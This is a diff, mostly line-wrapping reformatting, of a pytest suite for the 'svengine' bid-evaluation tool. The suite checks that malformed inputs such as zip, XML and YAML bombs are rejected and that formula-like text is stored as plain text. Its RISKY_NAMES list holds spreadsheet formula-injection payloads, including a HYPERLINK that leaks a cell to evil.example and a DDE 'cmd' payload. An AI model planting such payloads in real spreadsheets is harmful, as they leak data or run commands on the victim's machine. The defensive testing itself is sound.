@@ -37,7 +37,11 @@ def manifest() -> dict[str, dict[str, Any]]:
 
 
 def tree_digest(root: Path) -> dict[str, str]:
-    return {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(root.rglob("*")) if p.is_file()}
+    return {
+        str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
+        for p in sorted(root.rglob("*"))
+        if p.is_file()
+    }
 
 
 def located(case: dict[str, Any], text: str) -> bool:
@@ -50,16 +54,22 @@ def failures(case: dict[str, Any], result: dict[str, Any]) -> list[str]:
     for name, run in result["runs"].items():
         if case["expect"] == "ok":
             if run["exit"] != 0:
-                found.append(f"{name}: exit {run['exit']} (signal {run['signal']}): {run['stderr'][-500:]}")
+                found.append(
+                    f"{name}: exit {run['exit']} (signal {run['signal']}): {run['stderr'][-500:]}"
+                )
             continue
         if run["signal"] is not None:
-            found.append(f"{name}: killed by signal {run['signal']} after {run['seconds']} s (the guard: 20 s, 1 GiB)")
+            found.append(
+                f"{name}: killed by signal {run['signal']} after {run['seconds']} s (the guard: 20 s, 1 GiB)"
+            )
         elif run["exit"] != 1:
             found.append(f"{name}: exit {run['exit']}, not 1")
         if "Traceback" in run["stderr"] + run["stdout"]:
             found.append(f"{name}: traceback\n{run['stderr'][-1500:]}")
         if not located(case, run["stderr"]):
-            found.append(f"{name}: no line names {case['file'] + case['place']!r}:\n{run['stderr'][:600]}")
+            found.append(
+                f"{name}: no line names {case['file'] + case['place']!r}:\n{run['stderr'][:600]}"
+            )
     api = result["api"]
     if case["expect"] == "ok":
         if api["raised"] is not None:
@@ -68,14 +78,20 @@ def failures(case: dict[str, Any], result: dict[str, Any]) -> list[str]:
     if result["out_dir"] is not None and result["out_dir"] != []:
         found.append(f"evaluate wrote {result['out_dir']}")
     if api["raised"] != "InvalidInput":
-        found.append(f"api raised {api['raised']}, not InvalidInput: {api.get('traceback', '')[-1500:]}")
+        found.append(
+            f"api raised {api['raised']}, not InvalidInput: {api.get('traceback', '')[-1500:]}"
+        )
         return found
     if not all(p["file"] for p in api["problems"]):
         found.append(f"api: a problem without a file: {api['problems']}")
     if not any(case["file"] + case["place"] in p["text"] for p in api["problems"]):
-        found.append(f"api: no problem names {case['file'] + case['place']!r}: {[p['text'] for p in api['problems']][:4]}")
+        found.append(
+            f"api: no problem names {case['file'] + case['place']!r}: {[p['text'] for p in api['problems']][:4]}"
+        )
     if case.get("code") and case["code"] not in {p["code"] for p in api["problems"]}:
-        found.append(f"api: no problem has code {case['code']}: {sorted({p['code'] for p in api['problems']})}")
+        found.append(
+            f"api: no problem has code {case['code']}: {sorted({p['code'] for p in api['problems']})}"
+        )
     return found
 
 
@@ -85,7 +101,14 @@ def results(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, Any
     before = tree_digest(CORPUS)
     env = {**os.environ, "OPENBLAS_NUM_THREADS": "1"}
     # The runner sits outside tests/corpus, and cwd is a scratch folder: a stray relative write cannot land in the corpus.
-    run = subprocess.run([sys.executable, str(HERE / "corpus_runner.py"), str(CORPUS), str(out / "runs")], capture_output=True, text=True, timeout=900, env=env, cwd=out)
+    run = subprocess.run(
+        [sys.executable, str(HERE / "corpus_runner.py"), str(CORPUS), str(out / "runs")],
+        capture_output=True,
+        text=True,
+        timeout=900,
+        env=env,
+        cwd=out,
+    )
     assert run.returncode == 0, run.stderr[-3000:]
     assert tree_digest(CORPUS) == before, "a corpus input was modified, added or removed by the run"
     return {result["id"]: result for result in json.loads(run.stdout)}
@@ -96,7 +119,25 @@ def test_the_corpus_holds_at_least_150_bad_inputs_of_every_kind() -> None:
     bad = [c for c in cases.values() if c["expect"] == "problems"]
     assert len(bad) >= 150
     prefixes = {c["id"].split("-")[0] for c in bad}
-    assert {"json", "yaml", "csv", "xlsx", "zip", "xml", "type", "missing", "unknown", "dup", "currency", "ref", "file", "digits", "exp", "sign", "measure"} <= prefixes
+    assert {
+        "json",
+        "yaml",
+        "csv",
+        "xlsx",
+        "zip",
+        "xml",
+        "type",
+        "missing",
+        "unknown",
+        "dup",
+        "currency",
+        "ref",
+        "file",
+        "digits",
+        "exp",
+        "sign",
+        "measure",
+    } <= prefixes
     assert {"ok-csv-bom", "ok-formula-names", "ok-formula-ids"} <= set(cases)
 
 
@@ -108,20 +149,32 @@ def test_the_committed_corpus_is_what_the_generator_writes(tmp_path: Path) -> No
         sys.path.remove(str(CORPUS))
     corpus = generate.generate(tmp_path)
     corpus.write_manifest()
-    assert tree_digest(tmp_path) == {k: v for k, v in tree_digest(CORPUS).items() if k.startswith(("cases/", "manifest"))}
+    assert tree_digest(tmp_path) == {
+        k: v for k, v in tree_digest(CORPUS).items() if k.startswith(("cases/", "manifest"))
+    }
 
 
 def test_every_case_behaves_as_its_manifest_says(results: dict[str, dict[str, Any]]) -> None:
     cases = manifest()
     assert set(results) == set(cases)
-    report = {case_id: failures(cases[case_id], result) for case_id, result in sorted(results.items())}
+    report = {
+        case_id: failures(cases[case_id], result) for case_id, result in sorted(results.items())
+    }
     broken = {case_id: found for case_id, found in report.items() if found}
-    assert not broken, "\n".join(f"{case_id} ({cases[case_id]['what']}):\n  " + "\n  ".join(found) for case_id, found in broken.items())
+    assert not broken, "\n".join(
+        f"{case_id} ({cases[case_id]['what']}):\n  " + "\n  ".join(found)
+        for case_id, found in broken.items()
+    )
 
 
 def test_no_case_comes_near_the_guard(results: dict[str, dict[str, Any]]) -> None:
     # The guard is a safety net, not a speed target; a case needing half of it deserves a look.
-    slow = {case_id: run["seconds"] for case_id, result in results.items() for run in result["runs"].values() if run["seconds"] > 10}
+    slow = {
+        case_id: run["seconds"]
+        for case_id, result in results.items()
+        for run in result["runs"].values()
+        if run["seconds"] > 10
+    }
     assert not slow
 
 
@@ -129,17 +182,43 @@ def _guarded() -> None:
     resource.setrlimit(resource.RLIMIT_AS, (1024**3, 1024**3))
 
 
-SAMPLE = ["json-truncated", "nan-bare", "yaml-alias-bomb", "yaml-recursive-alias", "csv-latin1", "xlsx-row-1048576", "zip-bomb-sheet",
-          "xml-bomb-sheet", "xlsx-macro-inside", "xlsx-external-link", "file-xlsm", "file-bid-dup-key", "ok-csv-bom"]
+SAMPLE = [
+    "json-truncated",
+    "nan-bare",
+    "yaml-alias-bomb",
+    "yaml-recursive-alias",
+    "csv-latin1",
+    "xlsx-row-1048576",
+    "zip-bomb-sheet",
+    "xml-bomb-sheet",
+    "xlsx-macro-inside",
+    "xlsx-external-link",
+    "file-xlsm",
+    "file-bid-dup-key",
+    "ok-csv-bom",
+]
 
 
 @pytest.mark.parametrize("case_id", SAMPLE)
-def test_the_console_script_says_what_the_harness_says(case_id: str, results: dict[str, dict[str, Any]], tmp_path: Path) -> None:
+def test_the_console_script_says_what_the_harness_says(
+    case_id: str, results: dict[str, dict[str, Any]], tmp_path: Path
+) -> None:
     """A sample through the installed `svengine` executable, in a fresh interpreter, under the same guard."""
     case = manifest()[case_id]
     target = str(CORPUS / case["target"])
-    command = ["validate", target] if case["kind"] == "file" else ["evaluate", target, "--out", str(tmp_path / "out")]
-    run = subprocess.run([str(SVENGINE), *command, *case.get("args", [])], capture_output=True, text=True, timeout=20, preexec_fn=_guarded, cwd=tmp_path)
+    command = (
+        ["validate", target]
+        if case["kind"] == "file"
+        else ["evaluate", target, "--out", str(tmp_path / "out")]
+    )
+    run = subprocess.run(
+        [str(SVENGINE), *command, *case.get("args", [])],
+        capture_output=True,
+        text=True,
+        timeout=20,
+        preexec_fn=_guarded,
+        cwd=tmp_path,
+    )
     harness = results[case_id]["runs"]["validate" if case["kind"] == "file" else "evaluate"]
     assert run.returncode == harness["exit"] == (0 if case["expect"] == "ok" else 1)
     if case["expect"] == "problems":
@@ -150,7 +229,17 @@ def test_the_console_script_says_what_the_harness_says(case_id: str, results: di
 
 # -- valid inputs whose text looks like a formula: evaluated, and written as text everywhere ----------
 
-RISKY_NAMES = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click for prices")', "@SUM(A1:A9)", "+1", "-1", "\t=1+1", "\r=cmd|' /C calc'!A0", "=cmd|' /C calc'!A0", "=1+1", "Smith_x0041_ Ltd"]
+RISKY_NAMES = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for prices")',
+    "@SUM(A1:A9)",
+    "+1",
+    "-1",
+    "\t=1+1",
+    "\r=cmd|' /C calc'!A0",
+    "=cmd|' /C calc'!A0",
+    "=1+1",
+    "Smith_x0041_ Ltd",
+]
 
 
 _MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
@@ -170,10 +259,20 @@ def text_cells(path: Path) -> tuple[set[str], list[str]]:
                 continue
             root = ElementTree.fromstring(archive.read(name))
             for item in root.iter(f"{_MAIN}si"):  # shared strings
-                texts.add(_ESCAPED.sub(lambda m: chr(int(m.group(1), 16)), "".join(t.text or "" for t in item.iter(f"{_MAIN}t"))))
+                texts.add(
+                    _ESCAPED.sub(
+                        lambda m: chr(int(m.group(1), 16)),
+                        "".join(t.text or "" for t in item.iter(f"{_MAIN}t")),
+                    )
+                )
             for cell in root.iter(f"{_MAIN}c"):
                 if cell.get("t") == "inlineStr":
-                    texts.add(_ESCAPED.sub(lambda m: chr(int(m.group(1), 16)), "".join(t.text or "" for t in cell.iter(f"{_MAIN}t"))))
+                    texts.add(
+                        _ESCAPED.sub(
+                            lambda m: chr(int(m.group(1), 16)),
+                            "".join(t.text or "" for t in cell.iter(f"{_MAIN}t")),
+                        )
+                    )
                 formula = cell.find(f"{_MAIN}f")
                 if formula is not None and formula.text:
                     formulas.append(formula.text)
@@ -191,7 +290,9 @@ def test_formula_like_names_and_comments_are_text_in_the_report(tmp_path: Path) 
     assert set(RISKY_NAMES) <= texts
     assert "=SUM(1,2)" in texts and "@comment" in texts  # the panel's comments, as typed
     # The report's own formulas are the engine's; none holds a bidder's text.
-    assert formulas and not [f for f in formulas if "HYPERLINK" in f or "cmd|" in f or "SUM(A1:A9)" in f]
+    assert formulas and not [
+        f for f in formulas if "HYPERLINK" in f or "cmd|" in f or "SUM(A1:A9)" in f
+    ]
     result = json.loads((tmp_path / "result.json").read_text(encoding="utf-8"))
     assert {bid["bidder_name"] for bid in result["bids"]} == set(RISKY_NAMES)
 
@@ -208,7 +309,12 @@ def test_formula_like_text_is_text_in_the_moderation_workbook(tmp_path: Path) ->
 def test_formula_like_bidder_ids_are_text_in_the_scores_template(tmp_path: Path) -> None:
     folder = CORPUS / "cases" / "ok-formula-ids"
     assert run_cli("evaluate", str(folder)).returncode == 0
-    assert run_cli("template", "scores", str(folder), "--out", str(tmp_path / "scores.xlsx")).returncode == 0
+    assert (
+        run_cli(
+            "template", "scores", str(folder), "--out", str(tmp_path / "scores.xlsx")
+        ).returncode
+        == 0
+    )
     texts, formulas = text_cells(tmp_path / "scores.xlsx")
     assert {"=1+1", "+44", "-7", "@A1"} <= texts
     assert not [f for f in formulas if f.lstrip("=") in ("1+1", "+44", "-7", "@A1", "A1")]
